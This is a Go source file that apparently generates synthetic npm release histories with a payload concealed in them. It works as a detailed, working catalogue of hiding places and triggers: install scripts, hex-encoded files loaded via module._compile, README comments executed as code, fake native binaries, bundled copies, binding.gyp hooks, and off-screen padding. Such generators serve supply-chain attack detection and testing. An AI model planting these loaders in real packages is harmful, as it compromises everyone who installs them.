package craft

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/evanw/esbuild/pkg/api"
)

// A tree is the files of one release while they are made.
type tree struct {
	lib     library
	in      insert
	min     insert // of the entry that is minified, where that is another file
	files   map[string]string
	main    string            // the entry
	scripts map[string]string // of package.json
	more    map[string]any    // of package.json
	hidden  []string          // scripts that only the registry's document has
}

// writeFiles gives files to what is installed and all that comes after it.
func (w *writer) writeFiles() {
	w.writeLibraries()
	met := false // what is installed
	for i := range w.releases {
		r := &w.releases[i]
		if met = met || r.ID == w.before; !met && r.ID != w.scene.Payload && r.Name == w.carrier.Name && !w.seized() {
			continue
		}
		t := w.honestTree(r)
		apart := r.ID == w.scene.Payload && w.is("place", "tarball-only-file") // from the repository
		if apart {
			t.finish(r)
			w.commit(r)
			t = w.honestTree(r)
		}
		if r.ID == w.scene.Payload && !w.swapped() && !w.is("arrival", "withdrawn") {
			w.place(t)
		}
		if r.Name == w.partner && w.is("disguise", "split-over-packages") {
			t.lib.functions = append(slices.Clone(t.lib.functions), function{w.name("part"), "", "return '" + w.host() + "'"})
		}
		if r.ID == w.bringer && w.partner != "" {
			w.addImport(t)
		}
		if t.finish(r); !apart {
			w.commit(r)
		}
	}
}

// writeLibraries writes the honest code of each package: the carrier's is the
// same for all variants, as it is there before any of them.
func (w *writer) writeLibraries() {
	w.libs = make(map[string]library)
	w.apart("carrier", func() { w.libs[w.carrier.Name] = w.library() })
	for i := range w.releases {
		if r := &w.releases[i]; w.libs[r.Name].functions == nil {
			w.apart(w.newcomer(), func() { w.libs[r.Name] = w.library() })
		}
	}
}

// alter puts the payload into what is installed, of a variant that gives it
// other bytes.
func (w *writer) alter() {
	r := &w.releases[slices.IndexFunc(w.releases, func(r release) bool { return r.ID == w.scene.Payload })]
	t := w.honestTree(r)
	w.place(t)
	t.finish(r)
}

// honestTree is a release without anything in it.
func (w *writer) honestTree(r *release) *tree {
	lib := w.libs[r.Name]
	t := &tree{lib: lib, main: "index.js", files: make(map[string]string), scripts: make(map[string]string), more: make(map[string]any)}
	t.files["README.md"] = fmt.Sprintf("# %s\n\nSome functions: %s.\n", r.Name, lib.functions[0].name)
	for _, s := range r.scripts {
		t.scripts[s] = "node " + s + ".js"
		t.files[s+".js"] = "'use strict'\n\nconsole.log('thank you')\n"
	}
	if w.is("place", "minified-only") && r.Name == w.scene.Payload.Name {
		t.main = minified
	}
	return t
}

// minified is an entry that tools made of another file.
const minified = "index.min.js"

// finish writes the entry and package.json, and gives a release its files.
func (t *tree) finish(r *release) {
	if t.main == minified {
		t.files[minified] = minify(t.lib.source(t.min))
	}
	if _, ok := t.files["index.js"]; !ok {
		t.files["index.js"] = t.lib.source(t.in)
	}
	m := map[string]any{"name": r.Name, "version": r.Version, "description": "Some functions", "main": t.main, "license": "MIT"}
	if len(r.depends) > 0 {
		m["dependencies"] = r.depends
	}
	if len(t.scripts) > 0 {
		m["scripts"] = t.scripts
	}
	maps.Copy(m, t.more)
	text, err := json.MarshalIndent(m, "", "  ")
	if err == nil { // maps of strings always have a JSON form
		t.files["package.json"] = string(text) + "\n"
	}
	r.files = t.files
	r.scripts = t.hidden
	for name := range t.scripts {
		r.scripts = append(r.scripts, name)
	}
	slices.Sort(r.scripts)
	r.scripts = slices.Compact(r.scripts)
}

// place puts the payload where the variant has it.
func (w *writer) place(t *tree) {
	p := w.payload()
	data := w.one(nouns)
	switch w.pick["place"] {
	case "entry-source":
		w.load(t, p)
	case "minified-only":
		w.load(t, p)
		t.min, t.in = t.in, insert{}
	case "test-data-file":
		t.files["test/"+data+".txt"] = fmt.Sprintf("%x\n", p)
		w.load(t, fmt.Sprintf("module._compile(Buffer.from(require('fs').readFileSync(__dirname + '/test/%s.txt', 'utf8'), 'hex').toString(), '')", data))
	case "install-script":
		t.script("postinstall", p)
	case "native-binary":
		t.files["build/Release/"+data+".node"] = "\x7fELF\x02\x01\x01\x00" + w.hex(200) + "\n" // files of an archive end with a line
		w.load(t, w.guarded("require('./build/Release/"+data+".node')"))
	case "bundled-copy":
		w.bundle(t, p, data)
	case "build-config":
		w.configure(t, p, data)
	case "types-or-readme":
		t.files["README.md"] += "\n<!-- " + data + "\n" + p + "\n-->\n"
		w.load(t, fmt.Sprintf("module._compile(require('fs').readFileSync(__dirname + '/README.md', 'utf8').split('<!-- %s')[1].split('-->')[0], '')", data))
	case "tarball-only-file":
		t.files["lib/"+data+".js"] = w.far(p)
		w.load(t, "require('./lib/"+data+"')")
	case "manifest-only":
		t.files["postinstall.js"] = p + "\n"
		t.hidden = []string{"postinstall"}
	case "no-code":
		t.files["index.js"] = "module.exports = {}\n"
	}
}

// load makes some statements run when the variant wants it.
func (w *writer) load(t *tree, statements string) {
	switch {
	case w.is("trigger", "at-install"):
		t.script("postinstall", statements)
	case w.is("trigger", "at-call"):
		t.in.call = statements
	default:
		t.in.top, t.in.far = statements, w.is("disguise", "off-screen")
	}
}

// far puts a payload of its own file off the screen where it is to be there.
func (w *writer) far(p string) string {
	if w.is("disguise", "off-screen") {
		return "'use strict';" + strings.Repeat(" ", 400) + oneLine(p) + "\n"
	}
	return p + "\n"
}

func (w *writer) guarded(statement string) string {
	if c := w.condition(); c != "" {
		return "if (" + c + ") " + statement
	}
	return statement
}

// script adds an install script that is a file.
func (t *tree) script(name, text string) {
	t.scripts[name] = "node " + name + ".js"
	t.files[name+".js"] = "'use strict'\n\n" + text + "\n"
}

// bundle puts the payload into a copy of another package within the tarball.
func (w *writer) bundle(t *tree, p, name string) {
	own := w.library()
	in := insert{top: p, far: w.is("disguise", "off-screen")}
	if w.is("trigger", "at-call") {
		in = insert{call: p}
	}
	t.files["node_modules/"+name+"/index.js"] = own.source(in)
	t.files["node_modules/"+name+"/package.json"] = fmt.Sprintf("{ \"name\": %q, \"version\": \"1.0.%d\", \"main\": \"index.js\", \"license\": \"MIT\" }\n", name, w.rng.IntN(9))
	t.more["bundleDependencies"] = []string{name}
	t.in.top = "const " + w.name("bundled") + " = require('" + name + "')"
	if w.is("trigger", "at-call") {
		t.in.call = w.name("bundled") + "." + own.functions[0].name + "([])"
	}
}

// configure puts the payload behind what a build tool reads.
func (w *writer) configure(t *tree, p, name string) {
	t.files[name+".js"] = p + "\n"
	if w.is("trigger", "at-install") {
		t.files["binding.gyp"] = fmt.Sprintf("{ 'targets': [{ 'target_name': '%s', 'sources': ['<!(node %s.js)'] }] }\n", name, name)
		t.hidden = []string{"install"} // npm adds it when it publishes
		return
	}
	t.more["browserify"] = map[string]any{"transform": []string{"./" + name + ".js"}}
}

// addImport makes the carrier use the new package; not where that has an install
// script of its own: then nothing need import it.
func (w *writer) addImport(t *tree) {
	if w.is("trigger", "at-install") {
		return
	}
	for _, in := range []*insert{&t.in, &t.min} {
		w.importIn(in)
	}
}

func (w *writer) importIn(in *insert) {
	name := w.name("imported")
	in.top = strings.TrimSpace("const " + name + " = require('" + w.partner + "')\n" + in.top)
	if w.is("trigger", "at-call") && in.call == "" {
		in.call = name + "." + w.libs[w.partner].functions[0].name + "([])"
	}
}

// minify makes a file smaller, as build tools do.
func minify(source string) string {
	return transform(source, api.TransformOptions{MinifyWhitespace: true, MinifyIdentifiers: true, MinifySyntax: true})
}

// oneLine puts statements on one line.
func oneLine(source string) string {
	return strings.TrimSpace(transform(source, api.TransformOptions{MinifyWhitespace: true}))
}

// transform returns what the compiler makes of a source; what it cannot parse
// stays as it is.
func transform(source string, o api.TransformOptions) string {
	o.LogLevel = api.LogLevelSilent
	if r := api.Transform(source, o); len(r.Errors) == 0 {
		return string(r.Code)
	}
	return source
}
